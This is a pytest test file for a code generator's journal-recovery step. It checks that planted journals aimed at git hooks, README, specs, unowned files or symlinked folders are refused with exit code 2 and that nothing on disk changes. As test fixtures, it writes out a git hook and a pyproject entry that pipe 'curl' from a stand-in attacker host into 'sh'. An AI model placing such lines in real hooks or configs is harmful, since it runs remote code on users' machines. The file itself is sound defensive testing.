"""Planted journals (issue 25, item 1). Rule: recovery replays a `.patchgen-txn/journal.json` only when it names
nothing but the declared outputs of the current specs (inside `generated/`, reached through no symlink; the
project's pyproject.toml only for a change of its pins) and every staged file still has the sha256 the journal
recorded. Anything else is refused: exit 2, one line naming the journal and what is wrong, and every file (the
journal and its staging directory included) is left exactly as it was, for the user to look at.
"""

from __future__ import annotations

import hashlib
import json
import os
import subprocess
import sys
from pathlib import Path

import pytest

from patchgen.files import TXN_DIR
from patchgen.project import regen
from patchgen.spec_set import load_specs
from tests.engine.helpers import FixtureSource, make_project, run_cli, spec_toml

TOY = "generated/toy/modeling_toy.py"
OTHER = "generated/other/modeling_other.py"
PATCHGEN = Path(sys.executable).parent / "patchgen"


def sha(data: bytes) -> str:
    return hashlib.sha256(data).hexdigest()


def tree(*roots: Path) -> dict[str, tuple]:
    """Every entry under `roots`, symlinks not followed: file bytes and mtime, link targets, directories."""
    found: dict[str, tuple] = {}
    for root in roots:
        for folder, dirs, files in os.walk(root):
            for name in dirs + files:
                path = Path(folder) / name
                if path.is_symlink():
                    found[str(path)] = ("link", os.readlink(path))
                elif path.is_file():
                    found[str(path)] = ("file", path.read_bytes(), path.stat().st_mtime_ns)
                else:
                    found[str(path)] = ("dir",)
    return found


@pytest.fixture
def root(tmp_path: Path) -> Path:
    """A generated fixture project with two models, a git hooks folder and a README."""
    proj = make_project(
        tmp_path / "proj",
        {"toy": spec_toml(output=TOY), "other": spec_toml(output=OTHER, keep=["ToyConfig"])},
    )
    regen(proj.config, load_specs(proj.config, None), source=FixtureSource())
    (proj.root / ".git" / "hooks").mkdir(parents=True)
    (proj.root / "README.md").write_text("# read me\n")
    return proj.root


def plant(root: Path, entries: list[dict], dirs: list[str] = (), rollback: bool = False, hashes: bool = True) -> Path:
    """A journal as patchgen writes it. Each entry: target, `new` (staged bytes, or None: already renamed into
    place, then `new_sha256` is the target's current hash), `old` (backup bytes or None: the target did not exist).
    """
    txn = root / TXN_DIR
    txn.mkdir()
    (txn / ".gitignore").write_text("*\n")
    records = []
    for number, entry in enumerate(entries):
        target = root / entry["target"]
        record = {"target": entry["target"], "new": f"{number}.new", "old": None}
        if entry.get("new") is not None:
            (txn / record["new"]).write_bytes(entry["new"])
            record["new_sha256"] = entry.get("new_sha256", sha(entry["new"]))
        else:
            record["new_sha256"] = sha(target.read_bytes())
        if entry.get("old") is not None:
            record["old"] = f"{number}.old"
            (txn / record["old"]).write_bytes(entry["old"])
            record["old_sha256"] = sha(entry["old"])
        if not hashes:
            record = {key: value for key, value in record.items() if not key.endswith("_sha256")}
        records.append(record)
    if rollback:
        (txn / "rollback").write_bytes(b"")
    (txn / "journal.json").write_text(json.dumps({"entries": records, "dirs": list(dirs)}))
    return txn / "journal.json"


HOOK = b"#!/bin/sh\ncurl https://evil.example | sh\n"


def hook(root: Path) -> list[dict]:
    return [{"target": ".git/hooks/pre-commit", "new": HOOK}]


def readme(root: Path) -> list[dict]:
    return [{"target": "README.md", "new": b"pwned\n", "old": (root / "README.md").read_bytes()}]


def spec_rollback(root: Path) -> list[dict]:
    return [{"target": "specs/toy.toml", "new": None}]  # "created by the commit": a rollback deletes it


def undeclared(root: Path) -> list[dict]:
    return [{"target": "generated/toy/evil.py", "new": b"import os\n"}]


def bad_hash(root: Path) -> list[dict]:
    old = (root / TOY).read_bytes()
    return [{"target": TOY, "new": b"import os\n", "new_sha256": sha(old), "old": old}]


def pyproject(root: Path) -> list[dict]:
    old = (root / "pyproject.toml").read_bytes()
    return [{"target": "pyproject.toml", "new": old + b'\n[tool.other]\nrun = "curl evil | sh"\n', "old": old}]


CASES = {
    "a git hook": (hook, [], False, "'.git/hooks/pre-commit' is not an output of a spec"),
    "README.md": (readme, [], False, "'README.md' is not an output of a spec"),
    "a rollback deleting a spec": (spec_rollback, [], True, "'specs/toy.toml' is not an output of a spec"),
    "a file under generated/ no spec owns": (undeclared, [], False, "'generated/toy/evil.py' is not an output"),
    "a staged file with another hash": (bad_hash, [], False, "0.new does not have the sha256 the journal recorded"),
    "a directory outside generated/": (lambda root: [], ["specs/evil"], False, "'specs/evil' is not inside"),
    "pyproject.toml beyond its pins": (pyproject, [], False, "pyproject.toml: changes more than the pins"),
}


@pytest.mark.parametrize("case", CASES)
def test_a_planted_journal_touches_nothing(root, capsys, case) -> None:
    entries, dirs, rollback, problem = CASES[case]
    journal = plant(root, entries(root), dirs, rollback)
    before = tree(root)
    code, out, err = run_cli(root, capsys, "list")
    assert code == 2 and out == "", err
    assert err.count("\n") == 1 and err.startswith(f"error: {journal}: ") and problem in err, err
    assert "nothing was changed" in err and f"delete {root / TXN_DIR}" in err
    assert tree(root) == before


def test_a_journal_without_hashes_is_refused(root, capsys) -> None:
    old = (root / TOY).read_bytes()
    journal = plant(root, [{"target": TOY, "new": b"# other\n", "old": old}], hashes=False)
    before = tree(root)
    code, _, err = run_cli(root, capsys, "list")
    assert code == 2 and err.count("\n") == 1 and str(journal) in err and "no sha256" in err, err
    assert tree(root) == before


def test_a_journal_never_writes_through_a_symlinked_folder(root, tmp_path, capsys) -> None:
    """`generated/other` (a declared output's folder) is a link out of the project: nothing is written there."""
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "keep.txt").write_text("theirs\n")
    for path in (root / "generated" / "other").iterdir():
        path.unlink()
    (root / "generated" / "other").rmdir()
    (root / "generated" / "other").symlink_to(outside, target_is_directory=True)
    journal = plant(root, [{"target": OTHER, "new": b"import os\n"}])
    before = tree(root, outside)
    code, _, err = run_cli(root, capsys, "list")
    assert code == 2 and err.count("\n") == 1 and str(journal) in err, err
    assert "'generated/other' is a symlink" in err
    assert tree(root, outside) == before


def test_a_staging_directory_that_is_a_symlink_is_refused(root, tmp_path, capsys) -> None:
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    plant(elsewhere, readme(root))  # a well-formed journal, but reached through a link
    (root / TXN_DIR).symlink_to(elsewhere / TXN_DIR, target_is_directory=True)
    before = tree(root, elsewhere)
    code, _, err = run_cli(root, capsys, "list")
    assert code == 2 and err.count("\n") == 1 and "is a symlink" in err, err
    assert tree(root, elsewhere) == before


def test_patchgen_check_refuses_a_planted_journal_with_exit_2_and_one_line(root) -> None:
    """The console script itself: exit code 2, nothing on stdout, one line on stderr, the hook never written."""
    journal = plant(root, hook(root))
    result = subprocess.run(
        [str(PATCHGEN), "check", "--root", str(root)], capture_output=True, text=True, timeout=60, cwd=root
    )
    assert result.returncode == 2 and result.stdout == "", result
    assert result.stderr.count("\n") == 1 and result.stderr.startswith(f"error: {journal}: "), result.stderr
    assert not (root / ".git" / "hooks" / "pre-commit").exists()
